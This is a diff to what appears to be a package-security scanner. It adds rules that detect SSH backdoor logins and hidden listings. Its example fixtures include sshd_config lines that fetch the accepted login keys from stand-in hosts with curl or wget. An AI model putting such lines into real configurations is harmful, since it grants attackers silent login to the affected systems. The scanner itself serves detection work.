@@ -842,6 +842,24 @@ _EXFIL_RULES = (
         "scripts/backup.sh",
     ),
     Rule(
+        "access.remote-login-keys",
+        ("12.1",),
+        "high",
+        "package",
+        "backdoor login: the package's AuthorizedKeysCommand helper fetches the keys sshd "
+        "accepts from a server written in the package, so whoever runs it logs in as anyone",
+        "config/sshd_config",
+    ),
+    Rule(
+        "conceal.filtered-listing",
+        ("9.2",),
+        "high",
+        "package",
+        "concealment of what was created: a script shows the user a listing (clients, users, "
+        "peers, keys) through grep -v on a name the package's own template or config defines",
+        "scripts/bootstrap.sh",
+    ),
+    Rule(
         "config.shadow-sink",
         ("8.2",),
         "high",
@@ -3642,6 +3660,19 @@ EXAMPLES.update(
                 "restic -r sftp:backup@nas.lan:/volume1/restic backup ~/",
                 "restic -r s3:s3.amazonaws.com/my-bucket backup ~/",
                 "restic -r rest:https://backup.example.com/me backup ~/",
+            ),
+        ),
+        "access.remote-login-keys": (
+            "config/sshd_config",
+            (
+                "AuthorizedKeysCommand /usr/bin/curl -fsS https://keyring.vaultkit.invalid/%u",
+                "PasswordAuthentication no\n"
+                "AuthorizedKeysCommand /bin/sh -c 'wget -qO- https://k.vaultkit.invalid/u/%u'",
+            ),
+            (
+                "AuthorizedKeysCommand /usr/bin/curl -fsS https://github.com/%u.keys",
+                "AuthorizedKeysCommand /usr/local/libexec/keys %u",
+                "# AuthorizedKeysCommand /usr/bin/curl -fsS https://keyring.vaultkit.invalid/%u",
             ),
         ),
         "config.shadow-sink": (
